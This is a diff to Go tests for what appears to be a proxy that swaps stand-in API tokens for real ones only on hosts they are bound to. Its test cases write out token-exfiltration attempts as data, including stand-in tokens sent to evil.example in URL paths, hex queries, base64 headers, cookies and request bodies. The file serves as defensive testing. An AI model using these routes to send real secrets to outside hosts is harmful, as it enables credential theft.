@@ -169,6 +169,7 @@ func TestOutgoing(t *testing.T) {
 		{name: "another host's own credential", r: request("GET https://evil.example/", "Authorization: Bearer other"), want: "Authorization: Bearer other"},
 		{name: "another port", r: request("GET http://api.github.com/", "Authorization: Bearer "+in["GITHUB_TOKEN"]), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@header Authorization!"}},
 		{name: "another bound host", r: request("GET https://github.com/", "Authorization: Bearer "+in["ANTHROPIC_API_KEY"]), refuse: "stand-in of ANTHROPIC_API_KEY", leaks: []string{"ANTHROPIC_API_KEY@header Authorization!"}},
+		{name: "another bound host, same header", r: request("GET https://jira.example/", "Authorization: Bearer "+in["GITHUB_TOKEN"]), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@header Authorization!"}},
 		{name: "path of another host", r: request("GET https://evil.example/" + in["GITHUB_TOKEN"]), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@url!"}},
 		{name: "query of another host", r: request("GET https://evil.example/?x=" + hex.EncodeToString([]byte(in["GITHUB_TOKEN"]))), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@url!"}},
 		{name: "base64 to another host", r: request("GET https://evil.example/", "X: "+b64("xx"+in["GITHUB_TOKEN"]+"y")), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@header X!"}},
@@ -176,7 +177,10 @@ func TestOutgoing(t *testing.T) {
 		{name: "cookie to another host", r: request("GET https://github.com/", "Cookie: a="+in["GITHUB_TOKEN"]), refuse: "stand-in of GITHUB_TOKEN", leaks: []string{"GITHUB_TOKEN@header Cookie!"}},
 		{name: "an address", r: &Request{Port: 443, Method: "GET", Path: "/", URI: "/", Header: http.Header{"X": {in["GITHUB_TOKEN"]}}}, refuse: "an address without a name", leaks: []string{"GITHUB_TOKEN@header X!"}},
 
-		{name: "same host, other header", r: request("GET https://api.github.com/repos/a/b", "X-Echo: "+in["GITHUB_TOKEN"]), want: "X-Echo: " + in["GITHUB_TOKEN"], leaks: []string{"GITHUB_TOKEN@header X-Echo"}, inject: "GITHUB_TOKEN"},
+		{name: "same host, other header", r: request("GET https://api.github.com/repos/a/b", "X-Echo: "+in["GITHUB_TOKEN"]+" "+in["GITHUB_TOKEN"]), want: "X-Echo: " + in["GITHUB_TOKEN"] + " " + in["GITHUB_TOKEN"], leaks: []string{"GITHUB_TOKEN@header X-Echo"}, inject: "GITHUB_TOKEN"},
+		{name: "same host, twice", r: request("GET https://api.github.com/", "X-Echo: "+in["GITHUB_TOKEN"], "X-Echo: "+in["GITHUB_TOKEN"]), leaks: []string{"GITHUB_TOKEN@header X-Echo"}, inject: "GITHUB_TOKEN"},
+		{name: "bearer in a plain header", r: request("POST https://api.anthropic.com/v1/messages", "X-Api-Key: Bearer "+in["ANTHROPIC_API_KEY"]), refuse: "not yours"},
+		{name: "override where any method is bound", r: request("POST https://github.com/x", "X-Http-Method-Override: GET"), want: "X-Http-Method-Override: GET", inject: "GIT_TOKEN"},
 		{name: "same host, other carrier", r: request("GET https://api.github.com/repos/a/b", "Private-Token: "+in["GITHUB_TOKEN"]), want: "Private-Token: " + in["GITHUB_TOKEN"], leaks: []string{"GITHUB_TOKEN@header Private-Token"}, inject: "GITHUB_TOKEN"},
 		{name: "same host, query", r: request("GET https://api.github.com/?access_token=" + in["GITHUB_TOKEN"]), want: "Authorization: Bearer " + real["GITHUB_TOKEN"], leaks: []string{"GITHUB_TOKEN@url"}, inject: "GITHUB_TOKEN"},
 		{name: "same host, key and bearer changed", r: request("POST https://api.anthropic.com/v1/messages", "Authorization: Bearer "+in["ANTHROPIC_API_KEY"]), want: "Authorization: Bearer " + in["ANTHROPIC_API_KEY"], leaks: []string{"ANTHROPIC_API_KEY@header Authorization"}, inject: "ANTHROPIC_API_KEY"},
@@ -251,7 +255,7 @@ func TestBody(t *testing.T) {
 		abort            bool
 	}{
 		{"nothing", "POST https://api.github.com/x", strings.Repeat("x", 100000), "", false},
-		{"own host", "POST https://api.github.com/x", "a" + in["GITHUB_TOKEN"] + "b", "GITHUB_TOKEN", false},
+		{"own host", "POST https://api.github.com/x", "a" + in["GITHUB_TOKEN"] + "b" + in["GITHUB_TOKEN"], "GITHUB_TOKEN", false},
 		{"another host", "POST https://evil.example/x", strings.Repeat("x", 40000) + in["GITHUB_TOKEN"] + "b", "GITHUB_TOKEN", true},
 		{"another bound host", "POST https://jira.example/x", "t=" + in["GITHUB_TOKEN"], "GITHUB_TOKEN", true},
 		{"base64", "POST https://evil.example/x", b64("user:" + in["GITHUB_TOKEN"]), "GITHUB_TOKEN", true},
@@ -287,6 +291,10 @@ func TestBody(t *testing.T) {
 	h := http.Header{"Authorization": {"Bearer ATTACKER"}, "X-Sum": {"1"}}
 	if err := v.Trailer(h, nil); err != nil || len(h) != 1 {
 		t.Errorf("trailers: %v, %v", h, err)
+	}
+	h = http.Header{"Authorization": {"Bearer other"}}
+	if err := s.keys.Outgoing(t.Context(), request("POST https://other.example/x")).Trailer(h, nil); err != nil || len(h) != 1 {
+		t.Errorf("trailers to another host: %v, %v", h, err)
 	}
 	if err := v.Trailer(http.Header{"X": {in["GIT_TOKEN"]}}, nil); err == nil {
 		t.Error("a stand-in in a trailer to another host was passed on")
